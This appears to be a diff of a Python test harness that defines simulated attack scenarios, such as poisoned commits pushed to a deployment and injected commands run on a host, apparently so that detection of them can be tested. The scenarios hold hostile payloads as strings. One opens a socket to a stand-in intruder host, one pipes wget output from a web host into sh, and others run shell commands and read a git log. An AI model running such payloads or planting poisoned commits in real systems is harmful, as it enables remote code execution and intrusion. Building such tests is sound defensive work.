@@ -14,13 +14,19 @@ def command(script):
     return evaluate(f"subprocess.run({script!r}, shell=True)")
 
 
-def push(extra, worker=None):
+def push(*extras):
     """What is released does something else as well, once somebody visits it."""
     def attack(host, rng):
-        host.workload.push(host, ("router", "mailer"), extra)
-        host.wait_for_port(8080)
-        host.workload.visit(host, rng, 2)
+        for extra in extras:
+            host.workload.push(host, ("router", "mailer"), extra)
+            host.wait_for_port(8080)
+            host.workload.visit(host, rng, 2)
     return attack
+
+
+def poisoned(extra):
+    """And the next release doesn't."""
+    return push(extra, "pass  # mended")
 
 
 def visit(host, rng):
@@ -31,9 +37,9 @@ HOME = f"__import__('socket').create_connection(('{INTRUDER}', {SHELL}), 2).send
 
 define(
     globals(), "deploys",
-    ("pushed code calls home", "a poisoned commit", push(HOME), push("pass")),
-    ("pushed code fetches", "a poisoned commit, at a port that anyone uses", push(f"__import__('urllib.request').request.urlopen('{WEB}/x').read()"), push("pass  # words")),
-    ("pushed code starts a shell", "a poisoned commit", push("subprocess.run('id', shell=True)"), push("pass  # more words")),
+    ("pushed code calls home", "a poisoned commit", poisoned(HOME), push("pass")),
+    ("pushed code fetches", "a poisoned commit, at a port that anyone uses", poisoned(f"__import__('urllib.request').request.urlopen('{WEB}/x').read()"), push("pass  # words")),
+    ("pushed code starts a shell", "a poisoned commit", poisoned("subprocess.run('id', shell=True)"), push("pass  # more words")),
     ("deployed application injected", "", command("id; ps ax"), visit),
     ("deployed application phones by a tool", "", command(f"wget -q -O - {WEB}/x | sh"), visit),
     ("deployed application looks at git", "for what others have written", command("git --git-dir=/srv/git/shop.git log -p"), visit),
